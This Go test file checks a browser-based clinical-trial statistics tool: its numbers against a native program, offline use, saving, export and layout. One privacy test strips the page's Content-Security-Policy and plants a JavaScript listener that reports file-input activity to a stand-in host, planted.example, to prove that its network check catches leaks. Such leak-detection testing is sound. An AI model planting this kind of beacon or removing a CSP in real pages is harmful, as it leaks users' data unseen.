//go:build !js

package journey

import (
	"bytes"
	"encoding/json"
	"encoding/xml"
	"image/png"
	"io/fs"
	"math"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"testing/fstest"
	"time"
)

// What the page prints for a trial of one's own is what the native program
// computes by the formula that the page shows.
func TestNumbersOfOwnFile(t *testing.T) {
	t.Parallel()
	p, _ := home(t)
	p.OpenData("testdata/scored_long.csv")
	if words := p.TrialWords(); !strings.Contains(words, "315 patients in 22 units") {
		t.Errorf("the file is understood as: %s", words)
	}
	p.Screen("outcomes")
	const b, seed = 1500, 7
	p.RunWith(b, seed, "odi", "nrs_back")
	for outcome, decimals := range map[string]int{"odi": 1, "nrs_back": 1} {
		p.Tab("Model")
		p.Enter("#f-outcome", outcome)
		formula := p.Text("#formula")
		if !strings.HasPrefix(formula, outcome+" ~ arm*factor(visit)") {
			t.Errorf("formula of %s: %s", outcome, formula)
		}
		model := p.Cells("Contrasts")
		p.Tab("Table 3")
		fit := fitNatively(t, "testdata/scored_long.csv", formula, b, seed, atFollowUps()...)
		for i, boot := range fit.Bootstrap.Contrasts {
			row := p.Row(outcome, boot.Name)
			if want := printed(boot.Estimate, decimals); row.Difference != want {
				t.Errorf("%s at %s: difference %s, natively %s", outcome, boot.Name, row.Difference, want)
			}
			if want := printedRange(boot.Normal, decimals); row.Interval != want {
				t.Errorf("%s at %s: interval %s, natively %s", outcome, boot.Name, row.Interval, want)
			}
			if want := printedP(boot.P); row.P != want {
				t.Errorf("%s at %s: P %s, natively %s", outcome, boot.Name, row.P, want)
			}
			plain := fit.Contrasts[i]
			want := strings.Join([]string{boot.Name, printed(plain.Estimate, decimals+1), printed(plain.SE, decimals+1), printedRange(plain.CI, decimals+1), printedP(plain.P),
				printed(boot.SE, decimals+1) + " (±" + printed(boot.MCSE, decimals+1) + ")", printedRange(boot.Normal, decimals+1), printedP(boot.P)}, " | ")
			if got := strings.Join(model[len(model)-2+i], " | "); got != want {
				t.Errorf("%s on the Model view:\n%s\nnatively:\n%s", outcome, got, want)
			}
		}
	}
	p.OnlyOwn()
}

// The example trial opened by its button gives what `trialbox run` gives for
// the same recipe and file: every number of the table to nine digits.
func TestNumbersOfExample(t *testing.T) {
	t.Parallel()
	p, _ := home(t)
	p.OpenExample()
	p.WaitText("Simulated data")
	dir := t.TempDir()
	native(t, "run", table3Recipe(t), exampleCSV, "-o", dir)
	want := records(t, readAll(t, filepath.Join(dir, "table3.csv")))
	if len(want) < 2*10 {
		t.Fatalf("the native table has %d rows", len(want))
	}
	sameTable(t, records(t, p.CSV()), want)
	for _, w := range want {
		row := p.Row(w["outcome"], map[string]string{"3": "3 months", "12": "12 months"}[w["visit"]])
		d := decimalsOf(t, w["outcome"])
		if row.Difference != printed(number(t, w["difference"]), d) || row.P != printedP(number(t, w["p"])) ||
			row.Interval != printedRange([2]float64{number(t, w["low"]), number(t, w["high"])}, d) {
			t.Errorf("printed %+v, natively %v", row, w)
		}
	}
	p.OnlyOwn()
}

// decimalsOf is how many decimals the example's recipe gives an outcome.
func decimalsOf(t *testing.T, outcome string) int {
	t.Helper()
	var recipe struct {
		Outcomes []struct {
			Variable string
			Decimals int
		}
	}
	if err := json.Unmarshal(readAll(t, exampleRecipe), &recipe); err != nil {
		t.Fatal(err)
	}
	for _, o := range recipe.Outcomes {
		if o.Variable == outcome {
			return o.Decimals
		}
	}
	t.Fatalf("the recipe has no outcome %s", outcome)
	return 0
}

// With covariates chosen on the page, the shown formula still is what the
// native program needs to give the same numbers.
func TestNumbersWithCovariates(t *testing.T) {
	t.Parallel()
	p, _ := home(t)
	p.OpenData("testdata/scored_long.csv")
	p.Screen("outcomes")
	for _, c := range []string{"number:delay_days", "factor:pain_duration", "numberbase:fabq_pa"} {
		if !eval[bool](p, `Array.from(document.querySelectorAll("#f-addcov option")).some(o => o.value === `+quote(c)+`)`) {
			t.Fatalf("%s is not offered as a covariate: %v", c, eval[[]string](p, `Array.from(document.querySelectorAll("#f-addcov option"), o => o.value)`))
		}
		p.Enter("#f-addcov", c)
	}
	const b, seed = 1000, 42
	p.RunWith(b, seed, "odi")
	p.Tab("Model")
	formula := p.Text("#formula")
	if want := "odi ~ arm*factor(visit) + delay_days + factor(pain_duration) + fabq_pa_0 + (1|unit_id/patient_id)"; formula != want {
		t.Errorf("formula: %s", formula)
	}
	p.Tab("Table 3")
	fit := fitNatively(t, "testdata/scored_long.csv", formula, b, seed, atFollowUps()...)
	if math.Abs(fit.LogLik+2576.816206) > 1e-5 { // lme4's value of the model paper's main model
		t.Errorf("log-likelihood %v", fit.LogLik)
	}
	for _, boot := range fit.Bootstrap.Contrasts {
		row := p.Row("odi", boot.Name)
		if row.Difference != printed(boot.Estimate, 1) || row.Interval != printedRange(boot.Normal, 1) || row.P != printedP(boot.P) {
			t.Errorf("printed %+v, natively %+v", row, boot)
		}
	}
}

// Rows live while the replicates come; the page answers; Cancel keeps what is
// done; Resume and "1,000 more" end at the numbers of one uninterrupted run of
// the native program.
func TestLiveRows(t *testing.T) { // not parallel: it is about time
	server := serve(t, "/")
	p := launch(t)
	p.Early(workersSeen(2)) // as many as on the smallest machine, so that the run lasts long enough to be watched
	p.Open(server.URL)
	p.OpenData("testdata/scored_long.csv")
	p.Screen("outcomes")
	const b, seed = 99_000, 11
	p.RunWith(100, seed, "odi")
	p.Run(`window.seen = new Set(); window.longest = 0;
		new MutationObserver(() => {
			const e = document.querySelector('#table3 tr.live[data-outcome=odi][data-visit="12 months"] td:nth-of-type(3) .p');
			if (e && document.querySelector("#work progress")) seen.add(e.textContent);
		}).observe(document.body, {subtree: true, childList: true, characterData: true, attributes: true});
		(last => { const beat = () => { const now = performance.now(); longest = Math.max(longest, now - last); last = now; setTimeout(beat, 0); }; beat(); })(performance.now())`)
	p.StartWith(b, seed, "odi")
	p.waitFor("three intervals of one row", `seen.size >= 3`, longPatience)
	if !p.Account().Active {
		t.Fatal("the run was over before three intervals were seen; take more replicates")
	}

	start := time.Now()
	p.Tab("Figures")
	p.Text("#figure-trajectory")
	p.Tab("Table 3")
	answered := time.Since(start)
	if !p.Account().Active {
		t.Fatal("the run was over before the page was tried; take more replicates")
	}
	start = time.Now()
	p.Click("Cancel, keep what is done")
	p.Wait("the run to have stopped", `!(`+account+`).Active`)
	cancelled := time.Since(start)
	stopped := p.Account()
	longest := eval[float64](p, `longest`)
	t.Logf("the page turned views in %v, cancelled in %v at %d of %d, was silent for %.0f ms at most", answered, cancelled, stopped.Done, stopped.Target, longest)
	if answered > 2*time.Second || cancelled > 2*time.Second || longest > 1000 {
		t.Errorf("the page was slow: views %v, Cancel %v, silent for %.0f ms", answered, cancelled, longest)
	}
	if stopped.Done <= 0 || stopped.Done >= b || stopped.Target != b {
		t.Errorf("after Cancel there are %d of %d replicates", stopped.Done, stopped.Target)
	}
	time.Sleep(700 * time.Millisecond)
	if later := p.Account(); later != stopped {
		t.Errorf("after Cancel the count still moved, from %+v to %+v", stopped, later)
	}
	widths := eval[[]string](p, `[...seen]`)
	if len(widths) < 3 {
		t.Errorf("intervals seen: %v", widths)
	}

	p.Click("Resume")
	p.WaitRun(b)
	p.Click("1,000 more")
	p.WaitRun(b + 1000)
	fit := fitNatively(t, "testdata/scored_long.csv", "odi ~ arm*factor(visit) + (1|unit_id/patient_id)", b+1000, seed, atFollowUps()...)
	for i, row := range records(t, p.CSV()) {
		want := fit.Bootstrap.Contrasts[i]
		for name, x := range map[string]float64{"difference": want.Estimate, "se": want.SE, "low": want.Normal[0], "high": want.Normal[1], "p": want.P,
			"boundary": float64(fit.Bootstrap.Boundary), "failed": float64(fit.Bootstrap.Failed), "replicates": b + 1000} {
			if got := number(t, row[name]); math.Abs(got-x) > 1e-9*math.Abs(x) {
				t.Errorf("%s at %s: %v in pieces on the page, %v natively at once", name, want.Name, got, x)
			}
		}
	}
	p.Click("1,000 more") // beyond the most an outcome takes
	if words := p.Trouble(); !strings.Contains(words, "100000") && !strings.Contains(words, "100,000") {
		t.Errorf("more than the most: %s", words)
	}
	p.OnlyOwn()
}

// The numbers depend on data, options and seed, never on how many workers
// shared the work.
func TestSameNumbersForAnyWorkers(t *testing.T) {
	t.Parallel()
	server := serve(t, "/")
	tables := map[int][]byte{}
	for _, workers := range []int{1, 3} {
		p := launch(t)
		p.Early(workersSeen(workers))
		p.Open(server.URL)
		p.WaitText(map[int]string{1: "1 worker computes", 3: "3 workers compute"}[workers])
		p.OpenExample()
		tables[workers] = p.CSV()
	}
	if !bytes.Equal(tables[3], tables[1]) {
		t.Errorf("1 worker:\n%s\n3 workers:\n%s", tables[1], tables[3])
	}
}

// Kept in this browser, a project is there after a reload with the same table;
// it can be renamed, duplicated, deleted and brought back. Nothing is kept
// before that is chosen.
func TestKeep(t *testing.T) {
	t.Parallel()
	p, _ := home(t)
	if words := p.Text("#saved"); words != "Nothing to save" {
		t.Errorf("before anything is open the page says %q", words)
	}
	p.OpenData("testdata/scored_long.csv")
	p.Screen("outcomes")
	p.RunWith(300, 5, "odi", "nrs_leg")
	before := p.CSV()
	if words := p.Text("#saved"); words != "Not saved" {
		t.Errorf("before the decision the page says %q", words)
	}
	p.Reload()
	p.Screen("start")
	if records := p.storedRecords(); records != 0 {
		t.Errorf("%d records were kept before that was chosen", records)
	}
	p.Text("#no-saved")

	p.OpenData("testdata/scored_long.csv")
	p.Screen("outcomes")
	p.RunWith(300, 5, "odi", "nrs_leg")
	p.Click("Keep…")
	p.WaitText("Keep this project?")
	p.Click("Keep in this browser")
	p.WaitSaved()
	p.Reload()
	p.Screen("start")
	p.WaitText("scored_long")
	if list := p.savedNames(); len(list) != 1 {
		t.Fatalf("after the reload the list holds %v", list)
	}
	p.Part("the day it was kept", func(t *testing.T) {
		if kept := p.Text("#saved-list li"); !strings.Contains(kept, time.Now().UTC().Format("2 Jan 2006")) && !strings.Contains(kept, time.Now().Format("2 Jan 2006")) {
			t.Errorf("the list says %q", kept)
		}
	})
	p.Click("Open scored_long")
	p.Wait("the project", `!!document.querySelector("#columns")`)
	p.WaitSaved()
	p.Screen("outcomes")
	p.WaitRun(600)
	if after := p.CSV(); !bytes.Equal(before, after) {
		t.Errorf("before the reload:\n%s\nafter it:\n%s", before, after)
	}

	p.Screen("start")
	p.Click("Duplicate scored_long")
	p.WaitNames("scored_long", "scored_long (copy)")
	p.Click("Rename scored_long (copy)")
	p.Enter("#saved-list input", "Second look")
	p.WaitNames("scored_long", "Second look")
	p.Click("Delete Second look")
	p.WaitNames("scored_long")
	p.Click("Undo")
	p.WaitNames("scored_long", "Second look")
	p.Click("Open Second look")
	p.Wait("the copy", `document.querySelector(".project").textContent === "Second look"`)
	p.Screen("outcomes")
	p.WaitRun(600)
	if after := p.CSV(); !bytes.Equal(before, after) {
		t.Errorf("of the copy:\n%s\nof the original:\n%s", after, before)
	}

	p.Screen("start")
	p.Click("Delete scored_long")
	p.WaitNames("Second look")
	p.waitFor("the deleted project's bytes to go", storeCount+`.then(n => n === 3)`, 20*time.Second) // 10 s for the undo
	p.Reload()
	p.Screen("start")
	p.WaitNames("Second look")
	p.Click("Erase everything")
	p.WaitText("This cannot be undone")
	p.ClickOn(".dialog .danger")
	p.Text("#no-saved")
	if records := p.storedRecords(); records != 0 {
		t.Errorf("%d records are left after erasing everything", records)
	}
	p.OnlyOwn()
}

// What goes out as files: the project opens in another browser with the same
// table; table, figure and recipe are what they say.
func TestExport(t *testing.T) {
	t.Parallel()
	p, server := home(t)
	p.OpenData("testdata/scored_long.csv")
	p.Screen("outcomes")
	p.RunWith(250, 9, "odi", "nrs_back", "eq_vas")
	table := p.CSV()
	row := p.Row("odi", "12 months")

	name, body := p.Download(func() { p.Click("HTML for Word") })
	if !strings.HasSuffix(name, ".html") || !strings.Contains(string(body), row.Difference+" ("+row.Interval+")") || !strings.Contains(string(body), "<table") {
		t.Errorf("%s: %s", name, cut(string(body), 2000))
	}
	name, body = p.Download(func() { p.Click("Markdown") })
	if !strings.HasSuffix(name, ".md") || !strings.Contains(string(body), "|---|") || !strings.Contains(string(body), row.Difference+" ("+row.Interval+")") {
		t.Errorf("%s: %s", name, cut(string(body), 2000))
	}
	name, body = p.Download(func() { p.Click("Recipe") })
	if !strings.HasSuffix(name, ".recipe.json") {
		t.Errorf("the recipe came as %q", name)
	}
	dir := t.TempDir()
	recipe := filepath.Join(dir, "r.recipe.json")
	writeAll(t, recipe, body)
	native(t, "run", recipe, "testdata/scored_long.csv", "-o", filepath.Join(dir, "out"))
	sameTable(t, records(t, table), records(t, readAll(t, filepath.Join(dir, "out", "table3.csv"))))

	p.Tab("Figures")
	p.Enter("#f-outcome", "odi")
	name, body = p.Download(func() { p.Click("SVG") })
	var svg struct {
		XMLName xml.Name
		ViewBox string `xml:"viewBox,attr"`
	}
	if err := xml.Unmarshal(body, &svg); err != nil || svg.XMLName.Local != "svg" || !strings.HasSuffix(name, ".svg") {
		t.Errorf("%s is no SVG: %v %s", name, err, cut(string(body), 500))
	}
	width, _, _ := strings.Cut(strings.TrimPrefix(svg.ViewBox, "0 0 "), " ")
	name, body = p.Download(func() { p.Click("PNG") })
	figure, err := png.DecodeConfig(bytes.NewReader(body))
	if err != nil || !strings.HasSuffix(name, ".png") || !bytes.HasPrefix(body, []byte("\x89PNG\r\n\x1a\n")) {
		t.Errorf("%s: %d bytes, %v", name, len(body), err)
	}
	p.Part("PNG at three times its size", func(t *testing.T) {
		if want := 3 * number(t, width); float64(figure.Width) != want {
			t.Errorf("the figure is %s wide and its PNG %d pixels", width, figure.Width)
		}
	})

	name, body = p.Download(func() { p.Click("Save to a file") })
	if name != "scored_long.trialbox" {
		t.Errorf("the project came as %q", name)
	}
	p.Wait("the word that the project is safe", `document.getElementById("saved").textContent.trim() === "Saved to a file"`)
	file := filepath.Join(dir, "other name.trialbox")
	writeAll(t, file, body)
	q := launch(t)
	q.Open(server.URL)
	q.Upload("project", file)
	q.Wait("the project", `!!document.querySelector("#columns")`)
	if got := q.Text(".project"); got != "scored_long" {
		t.Errorf("the project is now called %q", got)
	}
	q.Screen("outcomes")
	q.WaitRun(3 * 250)
	if again := q.CSV(); !bytes.Equal(again, table) {
		t.Errorf("in the first browser:\n%s\nin the other:\n%s", table, again)
	}
	p.OnlyOwn()
	q.OnlyOwn()
}

// With the server gone after one visit, everything works as before.
func TestOffline(t *testing.T) {
	t.Parallel()
	p, server := home(t)
	p.waitOffline(t)
	server.Stop()
	p.Reload()
	p.OpenExample()
	online := p.Row("odi", "12 months")
	if online.P == "" || !strings.Contains(online.Interval, "–") {
		t.Errorf("offline the row is %+v", online)
	}
	p.Screen("start")
	p.OpenData("testdata/scored_long.csv")
	p.Screen("outcomes")
	p.RunWith(200, 3, "odi", "nrs_leg")
	p.OnlyOwn()
}

// The single file does the whole job from a folder, and asks for nothing.
func TestSingleFileJourney(t *testing.T) {
	t.Parallel()
	p, _ := openSingle(t)
	p.OpenExample()
	dir := t.TempDir()
	native(t, "run", table3Recipe(t), exampleCSV, "-o", dir)
	sameTable(t, records(t, p.CSV()), records(t, readAll(t, filepath.Join(dir, "table3.csv"))))
	p.Screen("start")
	p.OpenData("testdata/scored_long.csv")
	p.Screen("outcomes")
	p.RunWith(200, 3, "odi")
	if row := p.Row("odi", "3 months"); row.P == "" {
		t.Errorf("row: %+v", row)
	}
	if words := p.Text("#network"); !strings.HasPrefix(words, "0 requests") {
		t.Errorf("the badge says %q", words)
	}
	for _, address := range p.Net.all() {
		if !strings.HasPrefix(address, "blob:") && !strings.HasPrefix(address, "data:") && !strings.HasPrefix(address, "file:") && isForeign(address, "") {
			t.Errorf("asked for %s", address)
		}
	}
	p.OnlyOwn()
}

// journey goes from the example through everything that could ask somebody for
// something: a file, all screens, a run, downloads, keeping, the project file.
func (p *Page) journey() {
	p.t.Helper()
	for _, tab := range []string{"Figures", "Model", "Table 3"} {
		p.Tab(tab)
	}
	for _, button := range []string{"CSV", "HTML for Word", "Markdown", "Recipe", "Save to a file"} {
		p.Download(func() { p.Click(button) })
	}
	p.Screen("scores")
	p.Text("#receipt")
	p.Screen("data")
	p.Screen("start")
	p.OpenData("testdata/scored_long.csv")
	for _, tab := range []string{"Findings", "Roles", "Long or wide", "Rows"} {
		p.Tab(tab)
	}
	p.Screen("outcomes")
	p.RunWith(100, 1, "odi")
	p.Tab("Figures")
	p.Download(func() { p.Click("SVG") })
	p.Download(func() { p.Click("PNG") })
	p.Click("Keep…")
	p.Click("Keep in this browser")
	p.WaitSaved()
	p.press("the button", `document.querySelector("[data-turn-theme]")`)
}

// Over the whole of it nobody but the page's own host is asked, and nobody at
// all once data are open; the one request that is tried is refused.
func TestNobodyIsAsked(t *testing.T) {
	t.Parallel()
	p, _ := home(t)
	p.OpenExample()
	p.drawn()
	open := len(p.Net.asked())
	p.journey()
	if more := p.Net.asked()[open:]; len(more) > 0 {
		t.Errorf("requests since data were opened: %v", more)
	}
	if words := p.Text("#network"); !strings.Contains(words, "none since your data was opened") {
		t.Errorf("the badge says %q", words)
	}
	p.OnlyOwn()

	p.Screen("start")
	p.Click("Try one")
	if words := p.Text("#tried"); !strings.Contains(words, "refused the request to https://example.com/") || !strings.Contains(words, "connect-src") {
		t.Errorf("after the try the page says %q", words)
	}
	for _, address := range p.Net.all() {
		if strings.HasPrefix(address, "https://example.com:") { // as the proxy writes what reached it
			t.Errorf("the refused request left the browser: %s", address)
		}
	}
	if words := p.Text("#network"); strings.Contains(words, "another host") {
		t.Errorf("after the try the badge says %q", words)
	}
}

// The check above notices: one foreign address, asked for on the first file
// that is opened, is found at the end of the same journey.
func TestOnePlantedAddressIsFound(t *testing.T) {
	t.Parallel()
	site := fstest.MapFS{}
	files := os.DirFS(filepath.Join(dist(t), "site"))
	err := fs.WalkDir(files, ".", func(name string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() || name == "sw.js" || strings.HasSuffix(name, ".br") || strings.HasSuffix(name, ".gz") {
			return err
		}
		body, err := fs.ReadFile(files, name)
		site[name] = &fstest.MapFile{Data: body}
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	index := regexp.MustCompile(`<meta http-equiv="?Content-Security-Policy"?[^>]*>`).ReplaceAllString(string(site["index.html"].Data), "")
	if index == string(site["index.html"].Data) {
		t.Fatal("the policy was not found in the page")
	}
	site["index.html"].Data = []byte(index)
	site["boot.js"].Data = append(site["boot.js"].Data, `
		document.addEventListener("change", e => { if (e.target.matches("input[type=file]")) new Image().src = "https://planted.example/" + e.target.files.length; }, true);`...)
	p := launch(t)
	p.Open(serveFiles(t, "/", site).URL)
	p.OpenExample()
	p.journey()
	found := strings.Join(p.Net.foreign(p.own), " ")
	if !strings.Contains(found, "https://planted.example/1") || !strings.Contains(found, "https://planted.example:443") {
		t.Errorf("the planted request was not found by both witnesses; found: %s", found)
	}
}

// At the width of a phone no page scrolls sideways; wide tables do so inside
// their own frame.
func TestPhone(t *testing.T) {
	t.Parallel()
	p, _ := home(t)
	p.Resize(390, 844)
	p.fits("Start")
	p.OpenExample()
	for _, tab := range []string{"Table 3", "Figures", "Model"} {
		p.Tab(tab)
		p.fits("Outcomes, " + tab)
	}
	p.Run(`document.querySelectorAll("details").forEach(d => d.open = true)`)
	p.fits("Outcomes, options open")
	p.Screen("scores")
	p.fits("Scores")
	p.Screen("start")
	p.fits("Start with a project")
	p.Screen("data")
	for _, file := range []string{"", "testdata/messy_wide_semicolon_cp1252.csv"} {
		if file != "" {
			p.OpenData(file)
		}
		for _, tab := range []string{"Columns", "Findings", "Roles", "Long or wide", "Rows"} {
			p.Tab(tab)
			p.fits("Data, " + tab + " " + file)
		}
	}
	inside := eval[bool](p, `(r => r.scrollWidth > r.clientWidth && ["auto", "scroll"].includes(getComputedStyle(r).overflowX))(document.querySelector("[role=region][aria-label=Rows]"))`)
	if !inside {
		t.Error("the rows of the file do not scroll inside their frame")
	}
	p.Click("Keep…")
	p.WaitText("Keep this project?")
	p.fits("the dialog")
}

// fits checks that the page is no wider than the window, and names what is.
func (p *Page) fits(where string) {
	p.t.Helper()
	p.drawn()
	p.Screenshot("390 " + regexp.MustCompile(`[^A-Za-z0-9]+`).ReplaceAllString(where, "-") + ".png")
	type sizes struct {
		Page, Window int
		Wide         []string
	}
	s := eval[sizes](p, `({Page: document.scrollingElement.scrollWidth, Window: innerWidth,
		Wide: Array.from(document.querySelectorAll("body *")).filter(e => e.getBoundingClientRect().right > innerWidth + 1 && !e.closest(".scroll, [role=region]") && e.getClientRects().length > 0)
			.slice(0, 8).map(e => e.tagName + "." + e.className + " " + e.textContent.trim().slice(0, 30))})`)
	if s.Page > 390 || s.Window > 390 {
		p.t.Errorf("%s is %d wide in a window of %d; too wide are %q", where, s.Page, s.Window, s.Wide)
	}
}

// Of two windows on one kept project, the second to save is refused and told
// so; what the first one saved stays as it was.
func TestTwoWindows(t *testing.T) {
	t.Parallel()
	p := withKept(t)
	stored := func(w *Page) []string {
		return eval[[]string](w, `["smoker", "bmi"].map(c => document.getElementById("role-" + c).selectedOptions[0]?.textContent)`)
	}
	q := p.Another(p.own)
	q.Click("Open scored_long")
	q.Wait("the project", `!!document.querySelector("#columns")`)
	q.Pick("#role-smoker", "Covariate")
	q.Wait("the change to be kept", `document.getElementById("saved").textContent.trim() !== "Saving…"`)
	q.WaitSaved()

	p.Pick("#role-bmi", "Covariate")
	words := p.Trouble()
	if !strings.Contains(words, "Changed in another window") || !strings.Contains(words, "nothing was overwritten") {
		t.Errorf("the second window says %q", words)
	}
	if saved := p.Text("#saved"); saved != "Not saved" {
		t.Errorf("and calls the project %q", saved)
	}
	if own := stored(p); own[1] != "Covariate" {
		t.Errorf("the refused window lost its own change: %v", own)
	}

	r := p.Another(p.own)
	r.Click("Open scored_long")
	r.Wait("the project", `!!document.querySelector("#columns")`)
	if got := stored(r); got[0] != "Covariate" || got[1] == "Covariate" {
		t.Errorf("the stored roles of smoker and bmi are %v", got)
	}

	p.Click("Open the stored one")
	p.WaitText("Leave scored_long?") // its own change would be gone
	p.Click("Leave it")
	p.Wait("the stored project", `!document.querySelector("#trouble") && document.getElementById("role-smoker")?.selectedOptions[0]?.textContent === "Covariate"`)
	p.WaitSaved()
	if got := stored(p); got[1] == "Covariate" {
		t.Errorf("opened again, the roles are %v", got)
	}
}

// A file as a hospital's spreadsheet writes it opens right by itself.
func TestMessyWide(t *testing.T) {
	t.Parallel()
	p, _ := home(t)
	p.OpenData("testdata/messy_wide_semicolon_cp1252.csv")
	p.WaitText("Windows-1252, semicolon between fields, decimal comma")
	if words := p.TrialWords(); !strings.Contains(words, "315 patients in 22 units") || !strings.Contains(words, "3 months, 12 months") {
		t.Errorf("the file is understood as: %s", words)
	}
	p.Tab("Long or wide")
	if words := p.Text("#shape-words"); !strings.HasPrefix(words, "Wide.") {
		t.Errorf("shape: %s", words)
	}
	p.Tab("Columns")
	p.Enter("#f-filter", "bmi")
	p.Wait("the column bmi alone", `document.querySelectorAll("#columns tbody tr").length === 1`)
	if bmi := p.Text("#columns tbody tr"); !strings.Contains(bmi, "decimal comma") || !strings.Contains(bmi, "number") || !strings.Contains(bmi, "21,6→21.6") {
		t.Errorf("bmi: %s", bmi)
	}
	p.Enter("#f-filter", "")
	p.Tab("Rows")
	page := p.Text("#rows")
	for _, name := range []string{"Hämeensaari", "Revontuli Työterveys"} {
		if !strings.Contains(page, name) {
			t.Errorf("the rows do not show %s", name)
		}
	}
	if strings.Contains(page, "\ufffd") || strings.Contains(page, "Ã") {
		t.Error("letters of the rows are broken")
	}
	p.OnlyOwn()
}

// A workbook and an SPSS file open like a CSV, and of several sheets another can
// be chosen.
func TestOtherFormats(t *testing.T) {
	t.Parallel()
	const sheets = "../../app/dataset/testdata/sheets/"
	p, _ := home(t)
	p.OpenData(sheets + "trial_long.xlsx")
	p.WaitText("Excel workbook, sheet “Sheet 1”")
	want := p.TrialWords()
	if !strings.Contains(want, "315 patients in 22 units") {
		t.Errorf("the workbook is understood as: %s", want)
	}
	p, _ = home(t)
	p.OpenData(sheets + "trial_long.zsav")
	p.WaitText("SPSS file, UTF-8")
	if words := p.TrialWords(); words != want {
		t.Errorf("the SPSS file is understood as: %s", words)
	}
	p.Tab("Columns")
	p.Enter("#f-filter", "female")
	p.Wait("the column female alone", `document.querySelectorAll("#columns tbody tr").length === 1`)
	if words := p.Text("#columns tbody tr"); !strings.Contains(words, "Female sex") {
		t.Errorf("the label of the file is not shown: %s", words)
	}
	p, _ = home(t)
	p.OpenData(sheets + "mixed_libreoffice.xlsx")
	p.WaitText("sheet “Answers & more”")
	p.Pick("#f-sheet", "Codes") // it has a single cell
	p.WaitText("the sheet “Codes” has a header and no rows")
	p.WaitText("sheet “Answers & more”")
	p.OnlyOwn()
}

// Other options, the same agreement: REML, units drawn from both arms, and
// each kind of interval, which needs no new run.
func TestNumbersOfOtherOptions(t *testing.T) {
	t.Parallel()
	p, _ := home(t)
	p.OpenData("testdata/scored_long.csv")
	p.Screen("outcomes")
	p.ClickOn(`input[name=method][value=reml]`)
	p.drawn()
	p.Pick("#f-resample", "Cluster bootstrap, both arms")
	const b, seed = 1200, 123456789
	p.RunWith(b, seed, "eq_vas")
	p.Tab("Model")
	formula := p.Text("#formula")
	p.Tab("Table 3")
	var fit nativeFit
	args := append([]string{"fit", "-formula", formula, "-method", "reml", "-boot", strconv.Itoa(b), "-seed", strconv.Itoa(seed)}, atFollowUps()...)
	if err := json.Unmarshal(native(t, append(args, "testdata/scored_long.csv")...), &fit); err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct {
		kind string
		of   func(nativeDiff) [2]float64
	}{
		{"Percentile", func(d nativeDiff) [2]float64 { return d.Percentile }},
		{"Basic", func(d nativeDiff) [2]float64 { return d.Basic }},
		{"BC", func(d nativeDiff) [2]float64 { return d.BC }},
		{"Normal", func(d nativeDiff) [2]float64 { return d.Normal }},
	} {
		p.Pick("#f-interval", c.kind)
		if a := p.Account(); a.Active || a.Done != b {
			t.Errorf("another kind of interval started a run: %+v", a)
		}
		for i, row := range records(t, p.CSV()) {
			d := fit.Bootstrap.Contrasts[i]
			want := c.of(d)
			for name, x := range map[string]float64{"difference": d.Estimate, "se": d.SE, "low": want[0], "high": want[1], "p": d.P} {
				if got := number(t, row[name]); math.Abs(got-x) > 1e-9*math.Abs(x) {
					t.Errorf("%s interval, %s at %s: %v on the page, %v natively", c.kind, name, d.Name, got, x)
				}
			}
			if shown := p.Row("eq_vas", d.Name); shown.Interval != printedRange(want, 1) {
				t.Errorf("%s interval printed %s, natively %s", c.kind, shown.Interval, printedRange(want, 1))
			}
		}
	}
	p.Pick("#f-resample", "Model-based")
	p.Click("Run again")
	p.WaitRun(0)
	for i, row := range records(t, p.CSV()) {
		d := fit.Contrasts[i]
		for name, x := range map[string]float64{"difference": d.Estimate, "se": d.SE, "low": d.CI[0], "high": d.CI[1], "p": d.P} {
			if got := number(t, row[name]); math.Abs(got-x) > 1e-9*math.Abs(x) {
				t.Errorf("model-based, %s at %s: %v on the page, %v natively", name, d.Name, got, x)
			}
		}
	}
}

// Who deletes a project and closes the window at once has deleted it.
func TestDeletedStaysDeleted(t *testing.T) {
	t.Parallel()
	p := withKept(t)
	p.Screen("start")
	p.Click("Delete scored_long")
	p.WaitNames()
	p.Reload()
	p.Screen("start")
	p.Text("#no-saved")
	p.waitFor("its bytes to be gone", storeCount+`.then(n => n === 0)`, 15*time.Second)
}

// Decisions that are kept nowhere are not left behind without a question.
func TestLeaving(t *testing.T) {
	t.Parallel()
	p, _ := home(t)
	p.OpenData("testdata/scored_long.csv")
	p.Screen("outcomes")
	p.RunWith(100, 8, "odi") // a choice that would be gone
	leave := func(button string) {
		p.Screen("start")
		p.Click("Open the example trial")
		p.WaitText("Leave scored_long?")
		p.Click(button)
		p.Wait("the question to go", `!document.getElementById("dialog-title")`)
	}
	leave("Stay here")
	p.drawn()
	if name := p.Text(".project"); name != "scored_long" {
		t.Errorf("after staying %q is open", name)
	}
	p.Screen("outcomes")
	if row := p.Row("odi", "3 months"); row.Replicates != "100" {
		t.Errorf("after staying the row is %+v", row)
	}
	name, file := p.Download(func() { leave("Save to a file") })
	if name != "scored_long.trialbox" || !bytes.HasPrefix(file, []byte("PK")) {
		t.Errorf("saved before leaving: %s, %d bytes", name, len(file))
	}
	p.Wait("the example", `document.querySelector(".project").textContent === "Example trial"`)
	p.WaitTable3()
	p.Screen("start")
	p.OpenData("testdata/scored_long.csv") // nothing was decided about the example
}
